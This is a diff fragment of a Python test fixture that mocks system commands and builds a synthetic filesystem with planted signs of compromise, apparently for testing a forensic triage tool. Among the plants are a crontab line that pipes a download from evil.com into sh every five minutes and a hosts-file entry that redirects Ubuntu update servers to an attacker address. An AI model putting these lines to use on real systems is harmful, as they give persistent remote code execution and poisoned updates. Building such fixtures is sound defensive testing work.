+                 "drwxrwxrwt  1 root    root    4096 Jul 25 19:50 .",
+                 "drwxr-xr-x  1 root    root    4096 Jul 25 10:00 ..",
+                 "-rwxr-xr-x  1 hax0r   hax0r     88 Jul 25 10:05 payload.sh"]
+        for i in range(self.counts["payloads"]):
+            ext = rng.choice(PAYLOAD_EXTENSIONS)
+            lines.append(f"-rw-r--r--  1 {rng.choice(self.users)['name']:<7} staff {rng.randint(10, 90000):>7} "
+                         f"Jul {rng.randint(1, 28):>2} {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d} file_{i}{ext}")
+        return "\n" + "\n".join(lines) + "\n"
+
+    @mock_command("ls", r"LaunchDaemons|LaunchAgents")
+    def _ls_launch_items(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("launch:" + command)
+        names = ["com.example.daemon.plist"]
+        names += [f"com.{rng.choice(['apple', 'google', 'adobe', 'vendor'])}.agent{i}.plist" for i in range(self.counts["launch_items"])]
+        return "\n".join(names) + "\nREADME.txt\n"
+
+    @mock_command("crontab", r"-l")
+    def _crontab(self, command: str, match: "re.Match") -> str:
+        return "*/5 * * * * /usr/bin/curl -s http://evil.com/beacon | sh\n0 3 * * * /usr/local/bin/backup.sh\n"
+
+    # --- System & hardware commands ---
+    @mock_command("system_profiler", r"-xml SPUSBDataType")
+    def _usb_xml(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("usb")
+        devices = []
+        for i in range(self.counts["usb_devices"]):
+            vendor_id, manufacturer = rng.choice(USB_VENDORS)
+            devices.append({
+                "_name": rng.choice(USB_PRODUCTS), "manufacturer": manufacturer, "vendor_id": vendor_id,
+                "product_id": f"0x{rng.randint(0, 0xffff):04x}", "serial_num": f"{rng.getrandbits(48):012X}",
+                "location_id": f"0x{0x14100000 + i * 0x1000:08x} / {i + 2}",
+            })
+        tree = [{"_dataType": "SPUSBDataType", "_items": [{"_name": "USB31Bus", "_items": devices}]}]
+        return plistlib.dumps(tree, fmt=plistlib.FMT_XML).decode("utf-8")
+
+    @mock_command("system_profiler", r"-xml SPCameraDataType")
+    def _camera_xml(self, command: str, match: "re.Match") -> str:
+        tree = [{"_dataType": "SPCameraDataType",
+                 "_items": [{"_name": "FaceTime HD Camera", "model_id": "UVC Camera VendorID_1452 ProductID_34068"}]}]
+        return plistlib.dumps(tree, fmt=plistlib.FMT_XML).decode("utf-8")
+
+    @mock_command("system_profiler", r"-xml SPBluetoothDataType")
+    def _bluetooth_xml(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("bluetooth")
+        devices = []
+        for i in range(max(1, self.counts["usb_devices"] // 2)):
+            vendor_id = rng.choice(["0x004C", "0x046D", "0x0006"])
+            mac = ":".join(f"{rng.randint(0, 255):02X}" for _ in range(6))
+            devices.append({"_name": f"Device {i}", "vendor_id": vendor_id,
+                            "product_id": f"0x{rng.randint(0, 0xffff):04X}", "device_address": mac})
+        tree = [{"_dataType": "SPBluetoothDataType",
+                 "_items": [{"_name": "Bluetooth Controller", "_items": devices}]}]
+        return plistlib.dumps(tree, fmt=plistlib.FMT_XML).decode("utf-8")
+
+    @mock_command("system_profiler", r"SPNVMeDataType|SPSerialATADataType")
+    def _storage_profiler(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("disks")
+        devices = [{"_name": f"APPLE SSD AP{i:04d}", "device_model": f"APPLE SSD AP{i:04d}Z", "bsd_name": f"disk{i}",
+                    "size": f"{rng.choice([256, 512, 1024])} GB", "device_serial": f"{rng.getrandbits(40):010X}"}
+                   for i in range(self.counts["disks"])]
+        tree = [{"_dataType": "SPNVMeDataType", "_items": [{"_name": "Generic SSD Controller", "_items": devices}]},
+                {"_dataType": "SPSerialATADataType", "_items": []}]
+        return plistlib.dumps(tree, fmt=plistlib.FMT_XML).decode("utf-8")
+
+    @mock_command("system_profiler", r"SPSoftwareDataType")
+    def _software_profiler(self, command: str, match: "re.Match") -> str:
+        return (f"Software:\n\n    System Software Overview:\n\n      System Version: macOS 14.5 (23F79)\n"
+                f"      Kernel Version: Darwin 23.5.0\n      Build Version: 23F79\n      Computer Name: {self.hostname}\n")
+
+    @mock_command("system_profiler", r"SPHardwareDataType")
+    def _hardware_profiler(self, command: str, match: "re.Match") -> str:
+        return ("Hardware:\n\n    Hardware Overview:\n\n      Model Name: MacBook Pro\n"
+                "      Processor Name: Quad-Core Intel Core i7\n      Processor Speed: 2.3 GHz\n"
+                "      Total Number of Cores: 4\n      Memory: 16 GB\n")
+
+    @mock_command("diskutil", r"list -plist")
+    def _diskutil(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("disks")
+        disks = []
+        for i in range(self.counts["disks"]):
+            size = rng.choice([256, 512, 1024]) * 1024 ** 3
+            disks.append({
+                "DeviceIdentifier": f"disk{i}", "Size": size, "Product": f"APPLE SSD AP{i:04d}",
+                "Partitions": [
+                    {"DeviceIdentifier": f"disk{i}s1", "Size": 300 * 1024 ** 2, "FilesystemType": "msdos", "VolumeName": "EFI"},
+                    {"DeviceIdentifier": f"disk{i}s2", "Size": size - 300 * 1024 ** 2, "FilesystemType": "apfs",
+                     "VolumeName": "Macintosh HD" if i == 0 else f"Data {i}", "MountPoint": "/" if i == 0 else f"/Volumes/Data{i}"},
+                ],
+            })
+        return plistlib.dumps({"AllDisksAndPartitions": disks}, fmt=plistlib.FMT_XML).decode("utf-8")
+
+    @mock_command("df", r"-kP")
+    def _df(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("df")
+        sizes_gb = {"/": 500, "/boot/efi": 1, "/home": 1000, "/media/hax0r/KINGSTON": 64}
+        sizes_gb.update((f"/Volumes/Data{i}", 1000) for i in range(1, self.counts["disks"]))
+        sizes_gb.update((f"/srv/data{i}", 2000) for i in range(1, self.counts["disks"] - 1))
+        lines = ["Filesystem     1024-blocks      Used Available Capacity Mounted on"]
+        for i, (mount, size_gb) in enumerate(sizes_gb.items()):
+            total = size_gb * 1024 ** 2
+            used = int(total * rng.uniform(0.05, 0.95))
+            lines.append(f"/dev/disk{i}s1 {total:>15} {used:>9} {total - used:>9} {used * 100 // total:>7}% {mount}")
+        return "\n".join(lines) + "\n"
+
+    @mock_command("sysctl", r"hw\.memsize")
+    def _memsize(self, command: str, match: "re.Match") -> str:
+        return f"{16 * 1024 ** 3}\n"
+
+    @mock_command("sysctl", r"vm\.swapusage")
+    def _swap(self, command: str, match: "re.Match") -> str:
+        return "vm.swapusage: total = 2048.00M  used = 1032.25M  free = 1015.75M  (encrypted)\n"
+
+    @mock_command("vm_stat")
+    def _vm_stat(self, command: str, match: "re.Match") -> str:
+        return ("Mach Virtual Memory Statistics: (page size of 4096 bytes)\nPages free:                               42135.\n"
+                "Pages active:                            981233.\nPages inactive:                          954321.\n"
+                "Pages speculative:                        12345.\nPages throttled:                              0.\n"
+                "Pages wired down:                        512345.\n")
+
+    # --- Synthetic filesystem ---
+    @mock_tree
+    def _browser_profiles(self, root: str):
+        """Chrome/Brave History and Firefox places.sqlite databases under the users' home directories."""
+        rng = self.rng("browser_history")
+        # Anchored to today so the visits fall inside the report's time window
+        anchor = datetime.datetime.now(datetime.timezone.utc).replace(hour=0, minute=0, second=0, microsecond=0).timestamp()
+        layouts = [(".config/google-chrome/Default/History", write_chromium_history),
+                   (".config/BraveSoftware/Brave-Browser/Default/History", write_chromium_history),
+                   (".mozilla/firefox/x1y2z3.default-release/places.sqlite", write_firefox_places)]
+        homes = [u for u in self.users if u["home"].startswith("/home/")]
+        visits: Dict[Tuple[str, str], List[Tuple[float, str, Optional[str], float]]] = {}
+        for _ in range(self.counts["browser_visits"]):
+            user = rng.choice(homes)
+            layout = layouts[user["uid"] % len(layouts)] if user["name"] != "spencer" else rng.choice(layouts)
+            template, title = rng.choice(BROWSING_SITES)
+            term, number = rng.choice(SEARCH_TERMS), rng.randint(1000, 99999999)
+            visits.setdefault((user["home"], layout[0]), []).append(
+                (anchor - rng.uniform(0, 60 * 86400), template.format(q=term, n=number),
+                 title.format(q=term, n=number), round(rng.uniform(0, 600), 3)))
+        planted = visits.setdefault(("/home/hax0r", layouts[0][0]), [])
+        for offset, (url, title) in enumerate(SUSPICIOUS_VISITS):
+            planted.append((anchor - 3600 * (offset + 1), url, title, 2.0))
+        for (home, relative), rows in sorted(visits.items()):
+            writer = dict(layouts)[relative]
+            full = os.path.join(root, home.lstrip("/"), relative)
+            os.makedirs(os.path.dirname(full), exist_ok=True)
+            writer(full, sorted(rows))
+
+    @mock_tree
+    def _package_databases(self, root: str):
+        """dpkg status + info/*.list, an rpm sqlite database, snaps and site-packages."""
+        rng = self.rng("packages")
+        now = datetime.datetime.now().timestamp()
+        dpkg = [(name, f"{rng.randint(0, 9)}.{rng.randint(0, 40)}.{rng.randint(0, 20)}-{rng.randint(1, 9)}ubuntu{rng.randint(1, 5)}",
+                 rng.choice(["amd64", "amd64", "all"]), rng.randint(8, 90000), now - rng.uniform(30, 900) * 86400)
+                for name in (f"{rng.choice(PACKAGE_STEMS)}{i}" for i in range(self.counts["packages"]))]
+        dpkg += [(name, version, "amd64", 120, now - 3600 * (i + 2)) for i, (name, version) in enumerate(PLANTED_PACKAGES)]
+        status_lines, info = [], os.path.join(root, "var/lib/dpkg/info")
+        os.makedirs(info, exist_ok=True)
+        for name, version, arch, size, installed in dpkg:
+            status_lines += [f"Package: {name}", "Status: install ok installed", "Priority: optional", "Section: utils",
+                             f"Installed-Size: {size}", "Maintainer: Ubuntu Developers <ubuntu-devel-discuss@lists.ubuntu.com>",
+                             f"Architecture: {arch}", f"Version: {version}", f"Description: synthetic package {name}",
+                             " A longer description that spans", " several continuation lines.", ""]
+            list_path = os.path.join(info, f"{name}:{arch}.list" if arch != "all" else f"{name}.list")
+            with open(list_path, "w") as f:
+                f.write(f"/usr/share/doc/{name}\n")
+            os.utime(list_path, (installed, installed))
+        status_lines += ["Package: removed-tool", "Status: deinstall ok config-files", "Version: 1.0", ""]
+        with open(os.path.join(root, "var/lib/dpkg/status"), "w") as f:
+            f.write("\n".join(status_lines))
+
+        rpm_path = os.path.join(root, "var/lib/rpm/rpmdb.sqlite")
+        os.makedirs(os.path.dirname(rpm_path), exist_ok=True)
+        write_rpmdb(rpm_path, [(f"{rng.choice(PACKAGE_STEMS).rstrip('-')}-compat{i}", f"{rng.randint(1, 9)}.{rng.randint(0, 9)}", f"{rng.randint(1, 30)}.el9",
+                                "x86_64", int(now - rng.uniform(30, 400) * 86400), rng.randint(10, 90000) * 1024)
+                               for i in range(max(1, self.counts["packages"] // 10))])
+
+        for name, version, revision in [("core22", "20240111", "1122"), ("lxd", "5.21.1", "28373"), ("firefox", "128.0", "4650")]:
+            meta = os.path.join(root, "snap", name, revision, "meta")
+            os.makedirs(meta, exist_ok=True)
+            with open(os.path.join(meta, "snap.yaml"), "w") as f:
+                f.write(f"name: {name}\nversion: '{version}'\nsummary: synthetic snap\n")
+            os.symlink(revision, os.path.join(root, "snap", name, "current"))
+            blobs = os.path.join(root, "var/lib/snapd/snaps")
+            os.makedirs(blobs, exist_ok=True)
+            blob = os.path.join(blobs, f"{name}_{revision}.snap")
+            open(blob, "wb").close()
+            installed = now - rng.uniform(30, 200) * 86400
+            os.utime(blob, (installed, installed))
+
+        site = os.path.join(root, "usr/lib/python3/dist-packages")
+        for name, version, age_days in [("requests", "2.31.0", 200), ("urllib3", "2.0.7", 200), ("psutil", "5.9.8", 90),
+                                        ("impacket", "0.11.0", 0.1)]:
+            dist_info = os.path.join(site, f"{name}-{version}.dist-info")
+            os.makedirs(dist_info, exist_ok=True)
+            os.utime(dist_info, (now - age_days * 86400, now - age_days * 86400))
+
+    @mock_tree
+    def _network_state(self, root: str):
+        """sysfs interfaces, procfs routes/neighbours and resolver files; eth0 is in promiscuous mode."""
+        rng = self.rng("network")
+        interfaces = [("lo", "00:00:00:00:00:00", 65536, "unknown", 0x49, 772, None, ""),
+                      ("eth0", "a4:83:e7:12:34:56", 1500, "up", 0x1143, 1, "e1000e", ""),
+                      ("docker0", "02:42:8f:11:22:33", 1500, "up", 0x1003, 1, None, "")]
+        interfaces += [(f"veth{rng.getrandbits(28):07x}", "aa:" + ":".join(f"{rng.randint(0, 255):02x}" for _ in range(5)),
+                        1500, "up", 0x1003, 1, None, "docker0") for _ in range(self.counts["veth_interfaces"])]
+        for index, (name, mac, mtu, state, flags, kind, driver, master) in enumerate(interfaces, 1):
+            base = os.path.join(root, "sys/class/net", name)
+            os.makedirs(os.path.join(base, "statistics"), exist_ok=True)
+            for attribute, value in [("ifindex", index), ("address", mac), ("mtu", mtu), ("operstate", state),
+                                     ("flags", f"0x{flags:x}"), ("type", kind)]:
+                with open(os.path.join(base, attribute), "w") as f:
+                    f.write(f"{value}\n")
+            for counter in ("rx_bytes", "tx_bytes", "rx_packets", "tx_packets", "rx_errors", "tx_errors", "rx_dropped", "tx_dropped"):
+                with open(os.path.join(base, "statistics", counter), "w") as f:
+                    f.write(f"{rng.randint(0, 10 ** (9 if 'bytes' in counter else 6 if 'packets' in counter else 1))}\n")
+            if driver:
+                os.makedirs(os.path.join(base, "device"), exist_ok=True)
+                os.symlink(f"../../../bus/pci/drivers/{driver}", os.path.join(base, "device", "driver"))
+            if master:
+                os.symlink(f"../{master}", os.path.join(base, "master"))
+
+        def le_hex(address: str) -> str:
+            return f"{struct.unpack('<I', bytes(int(octet) for octet in address.split('.')))[0]:08X}"
+        proc = os.path.join(root, "proc/net")
+        os.makedirs(proc, exist_ok=True)
+        routes = [("eth0", "0.0.0.0", "192.168.1.1", 0x3, 100, "0.0.0.0"), ("eth0", "192.168.1.0", "0.0.0.0", 0x1, 100, "255.255.255.0"),
+                  ("docker0", "172.17.0.0", "0.0.0.0", 0x1, 0, "255.255.0.0")]
+        with open(os.path.join(proc, "route"), "w") as f:
+            f.write("Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\n")
+            f.writelines(f"{iface}\t{le_hex(dst)}\t{le_hex(gw)}\t{flags:04X}\t0\t0\t{metric}\t{le_hex(mask)}\t0\t0\t0\n"
+                         for iface, dst, gw, flags, metric, mask in routes)
+        with open(os.path.join(proc, "fib_trie"), "w") as f:
+            f.write("Main:\n  +-- 0.0.0.0/0 3 0 5\n     |-- 0.0.0.0\n        /0 universe UNICAST\n"
+                    "     +-- 172.17.0.0/16 2 0 2\n        |-- 172.17.0.0\n           /16 link UNICAST\n"
+                    "        |-- 172.17.0.1\n           /32 host LOCAL\n"
+                    "     +-- 192.168.1.0/24 2 0 2\n        |-- 192.168.1.0\n           /24 link UNICAST\n"
+                    "        |-- 192.168.1.50\n           /32 host LOCAL\n"
+                    "Local:\n  +-- 127.0.0.0/8 2 0 2\n     |-- 127.0.0.0\n        /8 host LOCAL\n"
+                    "     |-- 127.0.0.1\n        /32 host LOCAL\n"
+                    "     |-- 192.168.1.50\n        /32 host LOCAL\n")
+        with open(os.path.join(proc, "if_inet6"), "w") as f:
+            f.write("00000000000000000000000000000001 01 80 10 80       lo\n"
+                    "fe80000000000000a683e7fffe123456 02 40 20 80     eth0\n")
+        with open(os.path.join(proc, "ipv6_route"), "w") as f:
+            f.write("fe800000000000000000000000000000 40 00000000000000000000000000000000 00 "
+                    "00000000000000000000000000000000 00000100 00000001 00000000 00000001     eth0\n"
+                    "00000000000000000000000000000001 80 00000000000000000000000000000000 00 "
+                    "00000000000000000000000000000000 00000000 00000002 00000000 80200001       lo\n")
+        with open(os.path.join(proc, "arp"), "w") as f:
+            f.write("IP address       HW type     Flags       HW address            Mask     Device\n"
+                    "192.168.1.1      0x1         0x2         c0:ff:ee:00:00:01     *        eth0\n"
+                    "192.168.1.100    0x1         0x2         3c:22:fb:aa:bb:cc     *        eth0\n"
+                    "192.168.1.77     0x1         0x0         00:00:00:00:00:00     *        eth0\n"
+                    + "".join(f"172.17.0.{i + 2:<13}0x1         0x2         02:42:ac:11:00:{i + 2:02x}     *        docker0\n"
+                              for i in range(min(self.counts["veth_interfaces"], 200))))
+
+        etc = os.path.join(root, "etc")
+        resolved = os.path.join(root, "run/systemd/resolve")
+        os.makedirs(etc, exist_ok=True)
+        os.makedirs(resolved, exist_ok=True)
+        with open(os.path.join(etc, "resolv.conf"), "w") as f:
+            f.write("# This is /run/systemd/resolve/stub-resolv.conf managed by man:systemd-resolved(8).\n"
+                    "nameserver 127.0.0.53\noptions edns0 trust-ad\nsearch corp.example\n")
+        with open(os.path.join(resolved, "resolv.conf"), "w") as f:
+            f.write("nameserver 192.168.1.1\nnameserver 1.1.1.1\nsearch corp.example\n")
+        with open(os.path.join(etc, "hosts"), "w") as f:
+            # The last entry sends security updates to an attacker-controlled mirror
+            f.write(f"127.0.0.1\tlocalhost\n127.0.1.1\t{self.hostname}\n\n"
+                    "# The following lines are desirable for IPv6 capable hosts\n"
+                    "::1     ip6-localhost ip6-loopback\nff02::1 ip6-allnodes\nff02::2 ip6-allrouters\n"
+                    "10.66.6.6\tsecurity.ubuntu.com archive.ubuntu.com\n")
+        with open(os.path.join(etc, "nsswitch.conf"), "w") as f:
+            f.write("passwd:         files systemd\ngroup:          files systemd\n"
+                    "hosts:          files mdns4_minimal [NOTFOUND=return] dns\nnetworks:       files\n")
+
+    @mock_tree
+    def _block_devices(self, root: str):
+        """/proc/mounts, /proc/partitions and /sys/block: NVMe system disk, extra SATA disks, a USB stick, a snap loop."""
+        rng = self.rng("disks")
+        disks = [("nvme0n1", 512, "", "Samsung SSD 980 PRO 512GB", "0", "0", [("nvme0n1p1", 1, "/boot/efi", "vfat"),
+                                                                              ("nvme0n1p2", 511, "/", "ext4")])]
+        disks += [(f"sd{chr(ord('b') + i)}", rng.choice([1000, 2000, 4000]), "ATA", "WDC WD40EFRX-68N", "0", "1",
+                   [(f"sd{chr(ord('b') + i)}1", 0, "/home" if i == 0 else f"/srv/data{i}", "xfs")])
+                  for i in range(max(0, self.counts["disks"] - 1))]
+        # Inserted today and mounted under hax0r's session
+        disks.append(("sda", 64, "Kingston", "DataTraveler 3.0", "1", "0", [("sda1", 64, "/media/hax0r/KINGSTON", "exfat")]))
+        partitions, mounts = ["major minor  #blocks  name", ""], []
+        for name, size_gb, vendor, model, removable, rotational, parts in disks:
+            base = os.path.join(root, "sys/block", name)
+            os.makedirs(os.path.join(base, "device"), exist_ok=True)
+            os.makedirs(os.path.join(base, "queue"), exist_ok=True)
+            files = {"size": size_gb * 1024 ** 3 // 512, "removable": removable, "ro": 0, "queue/rotational": rotational,
+                     "device/model": model, "device/serial" if name.startswith("nvme") else "serial": f"S{rng.getrandbits(40):010X}"}
+            if vendor:
+                files["device/vendor"] = vendor
+            for relative, value in files.items():
+                with open(os.path.join(base, relative), "w") as f:
+                    f.write(f"{value}\n")
+            partitions.append(f" 259        0 {size_gb * 1024 ** 2:>9} {name}")
+            for part, part_gb, mount_point, fstype in parts:
+                part_gb = part_gb or size_gb
+                os.makedirs(os.path.join(base, part), exist_ok=True)
+                with open(os.path.join(base, part, "partition"), "w") as f:
+                    f.write("1\n")
+                with open(os.path.join(base, part, "size"), "w") as f:
+                    f.write(f"{part_gb * 1024 ** 3 // 512}\n")
+                partitions.append(f" 259        1 {part_gb * 1024 ** 2:>9} {part}")
+                mounts.append(f"/dev/{part} {mount_point} {fstype} rw,relatime 0 0")
+        os.makedirs(os.path.join(root, "sys/block/loop0"), exist_ok=True)
+        with open(os.path.join(root, "sys/block/loop0/size"), "w") as f:
+            f.write(f"{74 * 1024 ** 2 // 512}\n")
+        partitions.append(f"   7        0     {74 * 1024} loop0")
+        mounts = (["sysfs /sys sysfs rw,nosuid,nodev,noexec,relatime 0 0", "proc /proc proc rw,nosuid,nodev,noexec,relatime 0 0",
+                   "tmpfs /run tmpfs rw,nosuid,nodev,size=1632808k,mode=755 0 0"] + mounts
+                  + ["/dev/loop0 /snap/core22/1122 squashfs ro,nodev,relatime 0 0",
+                     "//fileserver/share\\040name /mnt/share cifs rw,relatime,vers=3.1.1 0 0"])
+        os.makedirs(os.path.join(root, "proc"), exist_ok=True)
+        with open(os.path.join(root, "proc/partitions"), "w") as f:
+            f.write("\n".join(partitions) + "\n")
+        with open(os.path.join(root, "proc/mounts"), "w") as f:
+            f.write("\n".join(mounts) + "\n")
+
+
+    @mock_tree
+    def _usb_bus(self, root: str):
+        """
+        /sys/bus/usb/devices: a USB 2.0 and a 3.0 root hub, the synthetic devices
+        (every fourth behind an external hub), an internal camera and Bluetooth
+        adapter, the Kingston stick behind sda, and a keyboard that also
+        presents mass storage, plugged in twenty minutes ago.
+        """
+        rng = self.rng("usb")
+        now = datetime.datetime.now().timestamp()
+        boot = now - 3 * 86400
+        base = os.path.join(root, "sys/bus/usb/devices")
+        os.makedirs(base, exist_ok=True)
+
+        def device(name: str, vendor_id: int, product_id: int, manufacturer: str, product: str, speed: str,
+                   interfaces: List[Tuple[int, str]], connected: float, device_class: int = 0, serial: str = "",
+                   removable: str = "removable"):
+            path = os.path.join(base, name)
+            os.makedirs(path, exist_ok=True)
+            bus = name[3:] if name.startswith("usb") else name.split("-", 1)[0]
+            files = {"idVendor": f"{vendor_id:04x}", "idProduct": f"{product_id:04x}", "busnum": bus,
+                     "devnum": len(os.listdir(base)), "speed": speed, "bDeviceClass": f"{device_class:02x}",
+                     "removable": removable, "authorized": 1}
+            for key, value in (("manufacturer", manufacturer), ("product", product), ("serial", serial)):
+                if value:
+                    files[key] = value
+            for key, value in files.items():
+                with open(os.path.join(path, key), "w") as f:
+                    f.write(f"{value}\n")
+            port = name if not name.startswith("usb") else f"{bus}-0"
+            for number, (interface_class, driver) in enumerate(interfaces):
+                interface = os.path.join(base, f"{port}:1.{number}")
+                os.makedirs(interface, exist_ok=True)
+                with open(os.path.join(interface, "bInterfaceClass"), "w") as f:
+                    f.write(f"{interface_class:02x}\n")
+                if driver:
+                    os.symlink(f"../../../../bus/usb/drivers/{driver}", os.path.join(interface, "driver"))
+            os.utime(path, (connected, connected))
+
+        device("usb1", 0x1d6b, 0x0002, "Linux 6.8.0-45-generic xhci-hcd", "xHCI Host Controller", "480", [(0x09, "hub")],
+               boot, device_class=0x09, serial="0000:00:14.0", removable="unknown")
+        device("usb2", 0x1d6b, 0x0003, "Linux 6.8.0-45-generic xhci-hcd", "xHCI Host Controller", "5000", [(0x09, "hub")],
+               boot, device_class=0x09, serial="0000:00:14.0", removable="unknown")
+        device("1-10", 0x8087, 0x0026, "", "", "12", [(0xe0, "btusb"), (0xe0, "btusb")], boot, device_class=0xe0, removable="fixed")
+        device("1-11", 0x04f2, 0xb6dd, "Chicony Electronics Co.,Ltd.", "Integrated Camera", "480",
+               [(0x0e, "uvcvideo"), (0x0e, "uvcvideo")], boot, device_class=0xef, removable="fixed")
+        hub = None
+        for i in range(self.counts["usb_devices"]):
+            vendor_id, manufacturer = rng.choice(USB_VENDORS)
+            product = rng.choice(USB_PRODUCTS)
+            if i % 4 == 0:
+                hub = f"1-{i // 4 + 1}" if i // 4 + 1 < 10 else f"1-{i // 4 + 3}"   # 1-10 and 1-11 are internal
+                device(hub, 0x2109, 0x2812, "VIA Labs, Inc.", "USB2.0 Hub", "480", [(0x09, "hub")], boot + i * 60,
+                       device_class=0x09)
+            device(f"{hub}.{i % 4 + 1}", int(vendor_id, 16), rng.choice([0x0745, 0xc52b, 0x024f, 0x5567, 0x8153, 0x0407,
+                                                                          rng.randint(0, 0xffff)]),
+                   manufacturer, product, rng.choice(["1.5", "12", "480"]), USB_INTERFACES[product],
+                   boot + rng.uniform(0, now - boot - 7200), serial=f"{rng.getrandbits(48):012X}")
+        device("2-1", 0x0951, 0x1666, "Kingston", "DataTraveler 3.0", "5000", [(0x08, "usb-storage")], now - 5400,
+               serial="E0D55EA574A9F450A9570B2C")
+        device("2-2", 0x03eb, 0x2401, "", "Keyboard", "12", [(0x03, "usbhid"), (0x08, "usb-storage")], now - 1200,
+               serial="1337")
+
+        hwdata = os.path.join(root, "usr/share/hwdata")
+        os.makedirs(hwdata, exist_ok=True)
+        with open(os.path.join(hwdata, "usb.ids"), "w") as f:
+            f.write(USB_IDS)
+
+
+    def _started(self, proc: Dict[str, Any]) -> float:
+        """A process's start time from its ps STARTED column (e.g. "Jul24"), at a time of day fixed by its pid."""
+        incident = incident_day()
+        month, day = MONTHS.index(proc["start"][:3]) + 1, int(proc["start"][3:])
+        year = incident.year - 1 if (month, day) > (incident.month, incident.day) else incident.year
+        return datetime.datetime(year, month, day).timestamp() + self.rng(f"started:{proc['pid']}").randint(0, 86399)
+
+    @mock_tree
+    def _proc_tree(self, root: str):
+        """
+        /proc/<pid>/{exe,comm,cmdline,stat} for every synthetic process, and
+        /proc/stat. exe links are relative so they resolve inside the tree; the
+        planted kworker's target carries the kernel's " (deleted)" suffix.
+        """
+        written = set()
+        boot = min(self._started(proc) for proc in self.processes) - 3600
+        os.makedirs(os.path.join(root, "proc"), exist_ok=True)
+        with open(os.path.join(root, "proc", "stat"), "w") as f:
+            f.write(f"cpu  0 0 0 0 0 0 0 0 0 0\nbtime {int(boot)}\nprocesses {len(self.processes)}\n")
+        boot = int(boot)
+        for proc in self.processes:
+            command = proc["command"]
+            path = proc.get("exe") or (command.split()[0] if command.startswith("/") else f"/usr/bin/{command.lstrip('-').split()[0]}")
+            target = path + " (deleted)" if proc.get("exe") else path
+            binary = os.path.join(root, target.lstrip("/"))
+            if binary not in written:
+                os.makedirs(os.path.dirname(binary), exist_ok=True)
+                with open(binary, "wb") as f:
+                    f.write(b"\x7fELF\x02\x01\x01\x00" + hashlib.sha256(path.encode("utf-8")).digest() * (64 + len(path)))
+                    if proc.get("exe"):
+                        f.write(PLANTED_MINER_STRINGS)
+                written.add(binary)
+            base = os.path.join(root, "proc", str(proc["pid"]))
+            os.makedirs(base, exist_ok=True)
+            os.symlink(os.path.relpath(binary, base), os.path.join(base, "exe"))
+            with open(os.path.join(base, "comm"), "w") as f:
+                f.write(os.path.basename(path)[:15] + "\n")
+            with open(os.path.join(base, "cmdline"), "wb") as f:
+                f.write(command.encode("utf-8").replace(b" ", b"\0") + b"\0")
+            with open(os.path.join(base, "stat"), "w") as f:
+                f.write(f"{proc['pid']} ({os.path.basename(path)[:15]}) {proc['stat'][0]} 1 {proc['pid']} {proc['pid']} 0 -1 4194560 "
+                        f"0 0 0 0 0 0 0 0 20 0 1 0 {round((self._started(proc) - boot) * CLOCK_TICKS)} {proc['vsz'] * 1024} {proc['rss'] // 4}\n")
+            os.makedirs(os.path.join(base, "fd"), exist_ok=True)
+            for fd in range(3):
+                os.symlink("/dev/null", os.path.join(base, "fd", str(fd)))
+
+    @mock_tree
+    def _socket_tables(self, root: str):
+        """
+        /proc/net/{tcp,tcp6,udp,udp6,unix} for every synthetic socket, and the
+        socket:[inode] links in each owner's /proc/<pid>/fd, as the kernel writes them.
+        """
+        states = {"ESTAB": 0x01, "LISTEN": 0x0A, "UNCONN": 0x07}
+        tables = {"tcp": [], "udp": []}
+        for i, s in enumerate(self.sockets):
+            inode = 40000 + i
+            table = tables[s["proto"]]
+            table.append(f"{len(table):>4}: {_proc_net_address(s['local'])} {_proc_net_address(s['peer'])} "
+                         f"{0x0A if s['state'] == 'UNCONN' and s['proto'] == 'tcp' else states[s['state']]:02X} 00000000:00000000 00:00000000 00000000     0        0 {inode} 1 "
+                         f"0000000000000000 100 0 0 10 0")
+            fd_dir = os.path.join(root, "proc", str(s["pid"]), "fd")
+            os.makedirs(fd_dir, exist_ok=True)
+            os.symlink(f"socket:[{inode}]", os.path.join(fd_dir, str(3 + len(os.listdir(fd_dir)))))
+            comm = os.path.join(root, "proc", str(s["pid"]), "comm")
+            if not os.path.exists(comm):
+                with open(comm, "w") as f:
+                    f.write(s["process"][:15] + "\n")
+        net = os.path.join(root, "proc", "net")
+        os.makedirs(net, exist_ok=True)
+        header = ("  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode")
+        for name, lines in (("tcp", tables["tcp"]), ("udp", tables["udp"]), ("tcp6", []), ("udp6", [])):
+            with open(os.path.join(net, name), "w") as f:
+                f.write("\n".join([header] + lines) + "\n")
+        with open(os.path.join(net, "unix"), "w") as f:
+            f.write("Num       RefCount Protocol Flags    Type St Inode Path\n"
+                    "0000000000000000: 00000002 00000000 00010000 0001 01 39001 /run/systemd/private\n"
+                    "0000000000000000: 00000003 00000000 00000000 0001 03 39002\n")
+        init_fd = os.path.join(root, "proc", "1", "fd")
+        os.makedirs(init_fd, exist_ok=True)
+        for fd, inode in (("10", 39001), ("11", 39002)):
+            os.symlink(f"socket:[{inode}]", os.path.join(init_fd, fd))
+
+    @mock_tree
+    def _traffic_counters(self, root: str):
+        """/proc/net/dev for the synthetic interfaces and /proc/<pid>/io for every socket owner."""
+        rng = self.rng("traffic")
+        net = os.path.join(root, "proc", "net")
+        os.makedirs(net, exist_ok=True)
+        with open(os.path.join(net, "dev"), "w") as f:
+            f.write("Inter-|   Receive                                                |  Transmit\n"
+                    " face |bytes    packets errs drop fifo frame compressed multicast|bytes    packets errs drop fifo colls carrier compressed\n")
+            for name in ("lo", "eth0", "docker0"):
+                rx, tx = rng.randint(10 ** 6, 10 ** 10), rng.randint(10 ** 6, 10 ** 10)
+                f.write(f"{name:>6}: {rx} {rx // 900} 0 0 0 0 0 0 {tx} {tx // 900} 0 0 0 0 0 0\n")
+        for pid in sorted({s["pid"] for s in self.sockets}):
+            base = os.path.join(root, "proc", str(pid))
+            os.makedirs(base, exist_ok=True)
+            rchar, wchar = rng.randint(10 ** 5, 10 ** 9), rng.randint(10 ** 5, 10 ** 9)
+            with open(os.path.join(base, "io"), "w") as f:
+                f.write(f"rchar: {rchar}\nwchar: {wchar}\nsyscr: {rchar // 4096}\nsyscw: {wchar // 4096}\n"
